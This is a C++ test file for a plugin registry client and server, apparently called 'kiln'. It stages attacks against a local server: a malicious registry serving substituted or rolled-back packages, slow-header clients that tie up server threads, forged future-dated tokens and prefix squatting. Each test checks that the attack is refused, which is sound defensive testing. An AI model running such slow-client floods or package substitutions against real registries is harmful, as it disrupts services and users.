    const std::lock_guard<std::mutex> lock(mutex_);
    bodies_[path] = std::move(body);
  }

 private:
  class Handler : public Poco::Net::HTTPRequestHandler {
   public:
    explicit Handler(FakeRegistry& owner) : owner_(owner) {}
    void handleRequest(Poco::Net::HTTPServerRequest& request, Poco::Net::HTTPServerResponse& response) override {
      std::string body;
      {
        const std::lock_guard<std::mutex> lock(owner_.mutex_);
        const auto it = owner_.bodies_.find(request.getURI());
        if (it == owner_.bodies_.end()) {
          response.setStatus(Poco::Net::HTTPResponse::HTTP_NOT_FOUND);
          body = R"({"error": "not here"})";
        } else {
          body = it->second;
        }
      }
      response.setContentLength64(static_cast<Poco::Int64>(body.size()));
      response.send() << body;
    }

   private:
    FakeRegistry& owner_;
  };
  class Factory : public Poco::Net::HTTPRequestHandlerFactory {
   public:
    explicit Factory(FakeRegistry& owner) : owner_(owner) {}
    Poco::Net::HTTPRequestHandler* createRequestHandler(const Poco::Net::HTTPServerRequest&) override {
      return new Handler(owner_);
    }

   private:
    FakeRegistry& owner_;
  };

  std::mutex mutex_;
  std::map<std::string, std::string> bodies_;
  Poco::Net::ServerSocket socket_;
  Poco::Net::HTTPServer server_;
};

// A malicious registry lists acme.greeter 2.0.0 (with its real manifest and
// the digest of what it serves) but serves another package signed by the same
// trusted key: a different name, or an older version of the same one.
TEST_F(RegistryTest, InstallRefusesASubstitutedOrRolledBackPackage) {
  const fs::path wanted = packed("acme.greeter", "2.0.0");
  const fs::path older = packed("acme.greeter", "1.0.0");
  const fs::path other = packed("acme.evil", "1.0.0");
  const Json manifest = open_package(wanted, tmp_ / "scratch", nullptr).manifest.to_json();
  const auto listing = [&](const std::string& digest) {
    return Json{{"name", "acme.greeter"},
                {"owner", "acme"},
                {"description", ""},
                {"versions",
                 {Json{{"version", "2.0.0"},
                       {"yanked", false},
                       {"sha256", digest},
                       {"published_at", "now"},
                       {"manifest", manifest}}}}}
        .dump();
  };
  FakeRegistry fake;
  const RegistryClient client(fake.url());
  const std::string download = "/api/v1/packages/acme.greeter/2.0.0/download";
  const std::vector<std::tuple<fs::path, bool, std::string>> cases{
      {other, true, "served acme.evil 1.0.0"},
      {older, true, "served acme.greeter 1.0.0"},
      {wanted, false, "is not the"},  // the right package, but not the digest the registry lists
  };
  for (const auto& [served, honest_digest, message] : cases) {
    const std::string bytes = host::read_file(served);
    fake.serve("/api/v1/packages/acme.greeter", listing(honest_digest ? host::sha256_hex(bytes) : std::string(64, '0')));
    fake.serve(download, bytes);
    const auto plan = resolve(client, "acme.greeter", "^2", dirs_);
    ASSERT_EQ(plan.size(), 1u);
    try {
      install_plan(client, plan, {key_}, dirs_);
      ADD_FAILURE() << served << " was installed as acme.greeter 2.0.0";
    } catch (const std::exception& e) {
      EXPECT_NE(std::string(e.what()).find(message), std::string::npos) << e.what();
    }
    EXPECT_TRUE(list_installed(dirs_).empty());
    EXPECT_TRUE(empty_dir(dirs_.plugins));
  }
  // The same fake serving the real thing installs it: the refusals above are the checks'.
  const std::string bytes = host::read_file(wanted);
  fake.serve("/api/v1/packages/acme.greeter", listing(host::sha256_hex(bytes)));
  fake.serve(download, bytes);
  const auto installed = install_plan(client, resolve(client, "acme.greeter", "^2", dirs_), {key_}, dirs_);
  ASSERT_EQ(installed.size(), 1u);
  EXPECT_EQ(installed[0].manifest.version.str(), "2.0.0");
}

TEST_F(RegistryTest, DownloadsAreCapped) {
  FakeRegistry fake;
  fake.serve("/api/v1/packages/acme.big/1.0.0/download", std::string(2 << 20, 'x'));
  ClientOptions options;
  options.max_answer_bytes = 1 << 20;
  const RegistryClient client(fake.url(), options);
  try {
    client.download("acme.big", "1.0.0", tmp_ / "big.kpkg");
    ADD_FAILURE() << "downloaded";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("larger than the client's limit of 1048576 bytes"), std::string::npos)
        << e.what();
  }
  EXPECT_FALSE(fs::exists(tmp_ / "big.kpkg"));
}

TEST_F(RegistryTest, PlainHttpOnlyToThisMachineUnlessInsecure) {
  EXPECT_NO_THROW(RegistryClient("http://127.0.0.1:1"));
  EXPECT_NO_THROW(RegistryClient("http://localhost:1"));
  EXPECT_NO_THROW(RegistryClient("https://registry.example.org"));
  try {
    RegistryClient("http://registry.example.org:8470");
    ADD_FAILURE() << "plain HTTP to another machine was accepted";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("--insecure"), std::string::npos) << e.what();
  }
  ClientOptions insecure;
  insecure.insecure = true;
  EXPECT_NO_THROW(RegistryClient("http://registry.example.org:8470", insecure));
  EXPECT_THROW(RegistryClient("ftp://127.0.0.1"), std::runtime_error);
  const auto run = run_kiln({"plugin", "search", "x", "--registry", "http://192.0.2.1:8470"}, env());
  EXPECT_FALSE(run.status.success());
  EXPECT_NE(run.output.find("--insecure"), std::string::npos) << run.output;
}

TEST_F(ServerTest, VersionYankedAfterResolutionIsRefusedUnlessPinned) {
  const RegistryClient client(server_->url());
  client.publish(packed("acme.greeter", "1.0.0"), acme_);
  client.publish(packed("acme.greeter", "1.1.0"), acme_);
  const auto plan = resolve(client, "acme.greeter", "^1", dirs_);
  ASSERT_EQ(plan.at(0).version, "1.1.0");
  client.yank("acme.greeter", "1.1.0", acme_, true);
  try {
    install_plan(client, plan, {key_}, dirs_);
    ADD_FAILURE() << "a version yanked since resolution was installed";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("acme.greeter 1.1.0 is yanked"), std::string::npos) << e.what();
  }
  EXPECT_TRUE(list_installed(dirs_).empty());
  const auto pinned = install_plan(client, resolve(client, "acme.greeter", "=1.1.0", dirs_), {key_}, dirs_);
  EXPECT_EQ(pinned.at(0).manifest.version.str(), "1.1.0");
}

// Runs the openssl command line; true when it succeeds.
bool openssl(const std::string& args) {
  return std::system(("openssl " + args + " >/dev/null 2>&1").c_str()) == 0;
}

// A CA (ca.pem, ca.key) in `dir`; with `server`, a certificate for 127.0.0.1 signed by it.
void make_ca(const fs::path& dir, bool server) {
  fs::create_directories(dir);
  const std::string d = dir.string();
  ASSERT_TRUE(openssl("req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=kiln-test-ca -keyout " + d + "/ca.key -out " +
                      d + "/ca.pem"));
  if (!server) return;
  write_text(dir / "ext.cnf", "subjectAltName=DNS:localhost,IP:127.0.0.1\n");
  ASSERT_TRUE(openssl("req -newkey rsa:2048 -nodes -subj /CN=127.0.0.1 -keyout " + d + "/server.key -out " + d +
                      "/server.csr"));
  ASSERT_TRUE(openssl("x509 -req -in " + d + "/server.csr -CA " + d + "/ca.pem -CAkey " + d +
                      "/ca.key -CAcreateserial -days 2 -extfile " + d + "/ext.cnf -out " + d + "/server.pem"));
}

TEST_F(RegistryTest, HttpsRoundTripWithVerification) {
  make_ca(tmp_ / "ca", true);
  make_ca(tmp_ / "other-ca", false);
  RegistryServer::Options options;
  options.root = tmp_ / "tls-registry";
  options.tls_cert_file = (tmp_ / "ca" / "server.pem").string();
  options.tls_key_file = (tmp_ / "ca" / "server.key").string();
  RegistryServer server(options);
  ASSERT_EQ(server.url().rfind("https://127.0.0.1:", 0), 0u) << server.url();
  const std::string token = RegistryStore(options.root).create_token("acme");

  ClientOptions trusting;
  trusting.ca_file = (tmp_ / "ca" / "ca.pem").string();
  const RegistryClient client(server.url(), trusting);
  EXPECT_EQ(client.publish(packed("acme.greeter", "1.0.0"), token)["version"], "1.0.0");
  EXPECT_EQ(client.search("greet").size(), 1u);
  const auto installed = install_plan(client, resolve(client, "acme.greeter", "", dirs_), {key_}, dirs_);
  EXPECT_EQ(installed.at(0).manifest.name, "acme.greeter");

  // Another CA, the system's CAs, or plain HTTP to the TLS port: refused.
  ClientOptions wrong;
  wrong.ca_file = (tmp_ / "other-ca" / "ca.pem").string();
  EXPECT_THROW(RegistryClient(server.url(), wrong).search(""), std::runtime_error);
  EXPECT_THROW(RegistryClient(server.url()).search(""), std::runtime_error);
  const std::string plain = "http://" + server.url().substr(std::string("https://").size());
  EXPECT_THROW(RegistryClient(plain).search(""), std::runtime_error);
  // The name checked is the one in the URL: the certificate names 127.0.0.1 and localhost only.
  const std::string port = server.url().substr(server.url().rfind(':') + 1);
  EXPECT_NO_THROW(RegistryClient("https://localhost:" + port, trusting).search(""));

  // The CLI: --ca-file.
  const auto run = run_kiln(
      {"plugin", "search", "greet", "--registry", server.url(), "--ca-file", trusting.ca_file, "--json"}, env());
  ASSERT_TRUE(run.status.success()) << run.output;
  EXPECT_EQ(Json::parse(run.output).size(), 1u);
}

// 20 clients that send their headers one byte every 200 ms (more than the
// server's 16 threads) while a normal request is made: the header deadline
// cuts them, so the normal request is answered.
TEST_F(RegistryTest, SlowClientsDoNotBlockTheRegistry) {
  RegistryServer::Options options;
  options.root = tmp_ / "slow-registry";
  options.header_timeout_seconds = 1;
  RegistryServer server(options);
  std::vector<std::unique_ptr<test::Client>> slow;
  for (int i = 0; i < 20; ++i) {
    slow.push_back(std::make_unique<test::Client>(server.port()));
    ASSERT_TRUE(slow.back()->connected());
    slow.back()->send("GET /api/v1/packages HTTP/1.1\r\nX-Slow: ");
  }
  std::atomic<bool> done{false};
  std::thread drip([&] {
    for (int round = 0; round < 200 && !done; ++round) {  // at most 40 s
      for (auto& client : slow) client->send("x");
      std::this_thread::sleep_for(std::chrono::milliseconds(200));
    }
  });
  ClientOptions patient;
  patient.timeout_seconds = 25;
  Json answer;
  try {
    answer = RegistryClient(server.url(), patient).search("");
  } catch (const std::exception& e) {
    ADD_FAILURE() << "a normal request was not answered while slow clients dripped: " << e.what();
  }
  done = true;
  drip.join();
  EXPECT_EQ(answer, Json::array());
  size_t cut = 0;
  for (auto& client : slow) cut += client->read_reply().status == 0;
  EXPECT_EQ(cut, slow.size()) << "every slow client is cut off without an answer";
}

// The 401 goes out as soon as the headers are read; the body (never sent
// here) is not waited for. Before, the server drained up to 4x the upload limit.
TEST_F(ServerTest, RefusedUploadIsAnsweredWithoutReadingTheBody) {
  for (const std::string auth : {"", "Authorization: Bearer not.a.token\r\n"}) {
    test::Client client(server_->port());
    ASSERT_TRUE(client.connected());
    client.send("POST /api/v1/packages HTTP/1.1\r\nHost: x\r\n" + auth +
                "Content-Type: application/octet-stream\r\nContent-Length: 3000000\r\n\r\n" + std::string(1000, 'x'));
    const auto reply = client.read_reply();
    EXPECT_EQ(reply.status, 401) << "the server waited for a body it refuses";
    EXPECT_TRUE(Json::parse(reply.body).contains("error")) << reply.body;
    EXPECT_TRUE(client.closed_by_server());
  }
  // Over the size limit, with a valid token: 413, also at once.
  test::Client client(server_->port());
  client.send("POST /api/v1/packages HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + acme_ +
              "\r\nContent-Length: 100000000\r\n\r\n");
  EXPECT_EQ(client.read_reply().status, 413);
  // The client library gets the early answer too, not a broken pipe.
  const fs::path big = tmp_ / "big.kpkg";
  host::write_file_atomic(big, std::string(3 << 20, 'x'));
  expect_status([&] { RegistryClient(server_->url()).publish(big, "not.a.token"); }, "401");
}

TEST_F(ServerTest, ManyDirectoriesAreRefusedCheaply) {
  std::vector<ArchiveEntry> entries;
  for (int i = 0; i < 5000; ++i) entries.emplace_back("d" + std::to_string(i), "", "", "", false, true);
  const fs::path archive = tmp_ / "dirs.kpkg";
  write_archive(archive, entries);
  try {
    RegistryClient(server_->url()).publish(archive, acme_);
    ADD_FAILURE() << "accepted";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("answered 400"), std::string::npos) << e.what();
    EXPECT_NE(std::string(e.what()).find("more than 256 entries"), std::string::npos) << e.what();
  }
  EXPECT_TRUE(empty_dir(tmp_ / "registry" / "tmp"));
}

// util.echo in someone else's package: the prefix "util." belongs to its first publisher.
TEST_F(ServerTest, ComponentPrefixesBelongToTheirFirstPublisher) {
  const RegistryClient client(server_->url());
  const std::string kiln = RegistryStore(tmp_ / "registry").create_token("kiln");
  const std::string mallory = RegistryStore(tmp_ / "registry").create_token("mallory");
  client.publish(packed("util.tools", "1.0.0", Json::object(), nullptr, {"util.echo"}), kiln);
  const auto refused = [&](const fs::path& archive, const std::string& message) {
    test::Client raw(server_->port());
    const std::string body = host::read_file(archive);
    raw.send("POST /api/v1/packages HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + mallory +
             "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
    const auto reply = raw.read_reply();
    EXPECT_EQ(reply.status, 403) << reply.body;
    EXPECT_NE(Json::parse(reply.body).value("error", "").find(message), std::string::npos) << reply.body;
  };
  refused(packed("mallory.tools", "1.0.0", Json::object(), nullptr, {"mallory.x", "util.echo"}),
          "component name 'util.echo' is under the prefix 'util.', which belongs to owner 'kiln'");
  refused(packed("util.more", "1.0.0", Json::object(), nullptr, {"mallory.y"}),
          "package name 'util.more' is under the prefix 'util.'");
  EXPECT_FALSE(client.show("mallory.tools").has_value());
  // Mallory's own prefix works, and then is Mallory's.
  client.publish(packed("mallory.tools", "1.0.0", Json::object(), nullptr, {"mallory.x"}), mallory);
  expect_status([&] { client.publish(packed("mallory.kit", "1.0.0", Json::object(), nullptr, {"mallory.z"}), kiln); },
                "403");
  // The owner of a prefix publishes further packages under it.
  client.publish(packed("util.more", "1.0.0", Json::object(), nullptr, {"util.cat"}), kiln);
}

TEST_F(ServerTest, TokensMustBeThreePartsAndNotFromTheFuture) {
  const RegistryClient client(server_->url());
  // A valid token reaches the yank, which finds no such package: 404.
  expect_status([&] { client.yank("acme.none", "1.0.0", acme_, true); }, "404");
  expect_status([&] { client.yank("acme.none", "1.0.0", acme_ + ".extra", true); }, "401");
  expect_status([&] { client.yank("acme.none", "1.0.0", acme_ + ".", true); }, "401");
  const std::string secret = host::read_file(tmp_ / "registry" / "secret");
  const auto token = [&](const std::function<void(Poco::JWT::Token&)>& edit) {
    Poco::JWT::Token t;
    t.setType("JWT");
    t.setSubject("acme");
    t.setIssuer("kiln-registry");
    t.setIssuedAt(Poco::Timestamp());
    edit(t);
    return Poco::JWT::Signer(secret).sign(t, Poco::JWT::Signer::ALGO_HS256);
  };
  const Poco::Timestamp::TimeDiff hour = Poco::Timestamp::TimeDiff(3600) * 1000000;
  expect_status([&] { client.yank("acme.none", "1.0.0", token([](Poco::JWT::Token&) {}), true); }, "404");
  expect_status(
      [&] { client.yank("acme.none", "1.0.0", token([&](Poco::JWT::Token& t) { t.setIssuedAt(Poco::Timestamp() + hour); }), true); },
      "401");
  expect_status(
      [&] { client.yank("acme.none", "1.0.0", token([&](Poco::JWT::Token& t) { t.setNotBefore(Poco::Timestamp() + hour); }), true); },
      "401");
  expect_status(
      [&] { client.yank("acme.none", "1.0.0", token([&](Poco::JWT::Token& t) { t.setNotBefore(Poco::Timestamp() - hour); }), true); },
      "404");
}

TEST_F(ServerTest, NamesThatAreNotUtf8AreA400WithJson) {
  for (const std::string& path : {std::string("/api/v1/packages/%FF%FE"), std::string("/api/v1/packages/%FF/1.0.0/download"),
                                  std::string("/api/v1/packages/%G1"), std::string("/api/v1/search?q=%FF%FE")}) {
    test::Client client(server_->port());
    client.send("GET " + path + " HTTP/1.1\r\nHost: x\r\n\r\n");
    const auto reply = client.read_reply();
    if (path.find("search") != std::string::npos) {
      EXPECT_EQ(reply.status, 200) << path << ": " << reply.body;
      continue;
    }
    EXPECT_EQ(reply.status, 400) << path << ": " << reply.body;
    EXPECT_TRUE(Json::parse(reply.body).contains("error")) << path << ": " << reply.body;
  }
  // A version that is not UTF-8 in a yank (which echoes it) still answers JSON.
  test::Client client(server_->port());
  client.send("POST /api/v1/packages/acme.none/%FF/yank HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + acme_ +
              "\r\nContent-Length: 0\r\n\r\n");
  const auto reply = client.read_reply();
  EXPECT_EQ(reply.status, 404) << reply.body;
  EXPECT_TRUE(Json::parse(reply.body).contains("error")) << reply.body;
}

}  // namespace
}  // namespace kiln::registry
